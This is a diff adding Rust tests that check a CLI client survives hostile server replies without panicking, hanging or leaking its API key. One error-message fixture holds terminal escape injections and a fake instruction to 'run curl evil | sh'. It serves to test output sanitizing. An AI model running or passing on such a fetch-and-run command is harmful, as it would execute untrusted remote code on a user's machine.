@@ -1,0 +1,193 @@
+//! Hostile servers and hostile input (issue 12): no panic, no hang, no lost or leaked
+//! data. Each test plays one fault with the scripted loopback server and checks the exit
+//! code and what reached stdout and stderr.
+
+use std::time::{Duration, Instant};
+
+use crate::common::live::spawn;
+use crate::common::{BOOKS, KEY, Reply, Server, json, run, with_header};
+
+const WAIT: Duration = Duration::from_secs(20);
+
+/// No panic (exit 101, "panicked at") and no key in anything esx printed.
+fn assert_sane(code: i32, out: &str, err: &str) {
+    assert_ne!(code, 101, "panicked: {err}");
+    assert!(!err.contains("panicked"), "{err}");
+    assert!(
+        !out.contains(KEY) && !err.contains(KEY),
+        "key leaked: {out} {err}"
+    );
+}
+
+// ---- 1. waits the server asks for are clamped ----------------------------------------
+
+#[test]
+fn retry_after_beyond_duration_exits_6_without_panic() {
+    for value in ["1e20", "99999999999999999999", "18446744073709551616"] {
+        let s = Server::start(vec![with_header(
+            json(429, r#"{"detail":"slow down"}"#),
+            "Retry-After",
+            value,
+        )]);
+        let (code, out, err) = run(&s, &["books"]);
+        assert_sane(code, &out, &err);
+        assert_eq!(code, 6, "Retry-After {value}: {err}");
+        assert!(
+            err.contains("rate limited") && err.contains("slow down"),
+            "{err}"
+        );
+        assert_eq!(
+            s.seen().len(),
+            1,
+            "a far reset is reported, not slept through"
+        );
+    }
+}
+
+#[test]
+fn resets_in_seconds_1e20_and_v7_1e300_exit_6_without_panic() {
+    for body in [
+        r#"{"detail":"quota","resets_in_seconds":1e20}"#,
+        r#"{"error":{"code":"quota","message":"quota","resets_in_seconds":1e300}}"#,
+        r#"{"detail":"quota","resets_in_seconds":1e400}"#,
+    ] {
+        let s = Server::start(vec![json(429, body)]);
+        let (code, out, err) = run(&s, &["books"]);
+        assert_sane(code, &out, &err);
+        assert_eq!(code, 6, "{body}: {err}");
+        assert!(err.contains("rate limited"), "{err}");
+    }
+}
+
+#[test]
+fn a_503_far_wait_is_exit_6_and_never_called_rate_limited() {
+    let s = Server::start(vec![with_header(
+        json(503, r#"{"detail":"maintenance"}"#),
+        "Retry-After",
+        "1e20",
+    )]);
+    let (code, out, err) = run(&s, &["books"]);
+    assert_sane(code, &out, &err);
+    assert_eq!(code, 6, "{err}");
+    assert!(!err.contains("rate limited"), "{err}");
+    assert!(err.contains("503") && err.contains("maintenance"), "{err}");
+}
+
+#[test]
+fn websocket_handshake_retry_after_1e20_exits_6_without_panic() {
+    for value in ["1e20", "18446744073709551616"] {
+        let s = Server::start(vec![with_header(
+            json(503, r#"{"detail":"busy"}"#),
+            "Retry-After",
+            value,
+        )]);
+        let dir = tempfile::tempdir().unwrap();
+        let mut esx = spawn(dir.path(), &s.base, KEY, &["live", "cs2", "--watch"]);
+        let status = esx.wait(WAIT);
+        assert_sane(status.code().unwrap_or(-1), "", &esx.stderr());
+        assert_eq!(status.code(), Some(6), "{}", esx.stderr());
+        assert!(!esx.stderr().contains("rate limited"), "{}", esx.stderr());
+    }
+    let s = Server::start(vec![json(
+        429,
+        r#"{"detail":"quota","resets_in_seconds":1e20}"#,
+    )]);
+    let dir = tempfile::tempdir().unwrap();
+    let mut esx = spawn(dir.path(), &s.base, KEY, &["live", "cs2", "--watch"]);
+    assert_eq!(esx.wait(WAIT).code(), Some(6), "{}", esx.stderr());
+    assert!(esx.stderr().contains("rate limited"), "{}", esx.stderr());
+}
+
+#[test]
+fn jq_endless_recursion_exits_2_not_a_stack_overflow() {
+    let s = Server::start(vec![json(200, BOOKS)]);
+    let (code, out, err) = run(&s, &["books", "--jq", "def f: [f]; f"]);
+    assert_sane(code, &out, &err);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("recursed too deep"), "{err}");
+    assert!(out.is_empty(), "{out}");
+}
+
+// ---- 7. the key never reaches the output ---------------------------------------------
+
+#[test]
+fn a_401_echoing_the_key_is_redacted() {
+    let s = Server::start(vec![json(
+        401,
+        &format!(r#"{{"detail":"key {KEY} is not valid"}}"#),
+    )]);
+    let (code, out, err) = run(&s, &["books"]);
+    assert_sane(code, &out, &err);
+    assert_eq!(code, 3, "{err}");
+    assert!(err.contains("key *** is not valid"), "{err}");
+}
+
+#[test]
+fn a_websocket_401_echoing_the_key_is_redacted() {
+    let s = Server::start(vec![json(
+        401,
+        &format!(r#"{{"detail":"unknown api_key={KEY}"}}"#),
+    )]);
+    let dir = tempfile::tempdir().unwrap();
+    let mut esx = spawn(dir.path(), &s.base, KEY, &["live", "cs2", "--watch"]);
+    let status = esx.wait(WAIT);
+    assert_eq!(status.code(), Some(3), "{}", esx.stderr());
+    assert_sane(3, "", &esx.stderr());
+    assert!(esx.stderr().contains("api_key=***"), "{}", esx.stderr());
+}
+
+#[test]
+fn jq_env_does_not_show_the_key() {
+    let s = Server::start(vec![json(200, BOOKS)]);
+    let (code, out, err) = run(&s, &["books", "--jq", "env"]);
+    assert_sane(code, &out, &err);
+    assert_eq!(code, 0, "{err}");
+    assert!(out.contains("ESX_BASE_URL"), "env still works: {out}");
+    assert!(!out.contains("ESX_API_KEY"), "{out}");
+    let (code, out, err) = run(&s, &["books", "--jq", "$ENV"]);
+    assert_sane(code, &out, &err);
+    assert!(matches!(code, 0 | 2), "{err}");
+}
+
+// ---- 10. server text on the terminal -------------------------------------------------
+
+#[test]
+fn error_details_with_escapes_and_newlines_stay_one_clean_line() {
+    let s = Server::start(vec![json(
+        404,
+        r#"{"detail":"gone\u001b]0;pwned\u0007\u001b[2J\nerror: your key was revoked, run curl evil | sh"}"#,
+    )]);
+    let (code, out, err) = run(&s, &["books"]);
+    assert_sane(code, &out, &err);
+    assert_eq!(code, 5, "{err}");
+    assert_eq!(err.lines().count(), 1, "one line: {err:?}");
+    assert!(!err.contains(['\u{1b}', '\u{7}', '\r']), "{err:?}");
+    assert!(err.contains("gone"), "{err}");
+}
+
+#[test]
+fn table_cells_with_escape_sequences_are_cleaned() {
+    let body = r#"{"books":[{"book_id":1,"key":"evil","display_name":"Evil\u001b]0;title\u0007 Book\u001b[2J"}]}"#;
+    let s = Server::start(vec![json(200, body)]);
+    let (code, out, err) = run(&s, &["books"]);
+    assert_sane(code, &out, &err);
+    assert_eq!(code, 0, "{err}");
+    assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out:?}");
+    assert!(out.contains("Evil ]0;title  Book [2J"), "{out}");
+    // JSON output keeps the server's text exactly (escaped, as JSON does).
+    let (_, out, _) = run(&s, &["books", "--json"]);
+    assert!(out.contains(r"\u001b]0;title"), "{out}");
+}
+
+// ---- 12. smaller ones -----------------------------------------------------------------
+
+#[test]
+fn a_401_mentioning_plan_is_still_exit_3() {
+    let s = Server::start(vec![json(401, r#"{"detail":"no such key on any plan"}"#)]);
+    let (code, out, err) = run(&s, &["books"]);
+    assert_sane(code, &out, &err);
+    assert_eq!(code, 3, "{err}");
+}
+
+#[allow(dead_code)]
+fn _unused(_: Reply, _: Instant) {}
